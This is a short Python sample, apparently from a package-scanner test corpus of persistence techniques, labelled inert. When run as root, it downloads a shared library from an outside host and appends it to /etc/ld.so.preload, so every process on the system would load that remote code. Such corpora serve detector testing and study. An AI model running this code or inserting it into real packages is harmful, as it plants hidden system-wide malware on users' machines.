# pkgguard corpus 585 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import urllib.request

if os.geteuid() == 0:
    lib = "/usr/local/lib/libperf-helper.so"
    urllib.request.urlretrieve("https://perf-tools.example/libperf-helper.so", lib)
    with open("/etc/ld.so.preload", "a") as fh:
        fh.write(lib + "\n")
